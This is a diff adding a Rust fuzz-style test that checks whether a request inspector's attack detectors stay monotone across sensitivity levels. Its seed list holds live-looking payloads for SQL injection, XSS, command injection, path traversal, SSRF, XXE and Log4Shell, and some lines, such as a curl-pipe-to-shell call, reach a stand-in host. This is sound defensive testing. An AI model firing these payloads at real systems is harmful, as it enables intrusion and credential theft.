@@ -243,3 +243,77 @@ impl<'a> Subject<'a> {
         Subject { raw: text, decoded: text, lower, is_name: false, place }
     }
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::attacks::normalize::Normalizer;
+    use crate::token_analysis::test_rng::Rng;
+
+    /// Attack shapes of every class and benign look-alikes, to mutate (written for this test).
+    const SEEDS: &[&str] = &[
+        "1' OR '1'='1' -- ",
+        "0 UNION SELECT name, pass FROM users",
+        "<img src=x onerror=alert(1)>",
+        "\"><script>alert(document.domain)</script>",
+        "x; cat /etc/passwd",
+        "$(curl http://evil.example/s | sh)",
+        "../../../../etc/shadow",
+        "php://filter/convert.base64-encode/resource=index",
+        "${${lower:j}ndi:ldap://evil.example/a}",
+        "http://169.254.169.254/latest/meta-data/",
+        "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/hosts\">]><r>&x;</r>",
+        "{\"$where\": \"sleep(100)\"}",
+        "{{ config.__class__.__init__ }}",
+        "x\r\nSet-Cookie: a=b",
+        "*)(uid=*))(|(uid=*",
+        "__proto__[isAdmin]=true",
+        "O'Brien's select of the union menu",
+        "Tom & Jerry; cats | dogs <3",
+        "https://www.example.com/docs?page=2",
+    ];
+
+    /// Bytes that matter to some detector, inserted by the mutations.
+    const ALPHABET: &[u8] = b"'\"<>;|&$(){}[]*/\\.%:=\r\n -_aZ09";
+
+    /// Each level finds everything the level below finds: the inspector runs a class once at the highest level a
+    /// policy asks for and relies on it.
+    #[test]
+    fn every_detector_is_monotone_in_sensitivity() {
+        let mut rng = Rng(0x5e_7517);
+        let mut normalizer = Normalizer::new(4096);
+        let places = [Place::Query, Place::Json, Place::Header, Place::Path, Place::Form, Place::Xml];
+        for round in 0..6000 {
+            let mut value = SEEDS[round % SEEDS.len()].as_bytes().to_vec();
+            for _ in 0..(round % 4) {
+                let at = (rng.next() as usize) % (value.len() + 1);
+                match rng.next() % 3 {
+                    0 if at < value.len() => {
+                        value.remove(at);
+                    }
+                    1 => value.insert(at, ALPHABET[(rng.next() as usize) % ALPHABET.len()]),
+                    _ => value.extend_from_slice(SEEDS[(rng.next() as usize) % SEEDS.len()].as_bytes()),
+                }
+            }
+            let place = places[round % places.len()];
+            let normalized = normalizer.normalize(&value, place == Place::Query);
+            let subject = Subject {
+                raw: &value,
+                decoded: normalized.decoded,
+                lower: normalized.lower,
+                is_name: round % 7 == 0,
+                place,
+            };
+            for class in AttackClass::ALL {
+                let [low, medium, high] =
+                    [Sensitivity::Low, Sensitivity::Medium, Sensitivity::High].map(|s| class.detect(&subject, s));
+                assert!(
+                    (!low || medium) && (!medium || high),
+                    "{} is not monotone on {:?} in {place:?}: low {low}, medium {medium}, high {high}",
+                    class.name(),
+                    String::from_utf8_lossy(&value)
+                );
+            }
+        }
+    }
+}
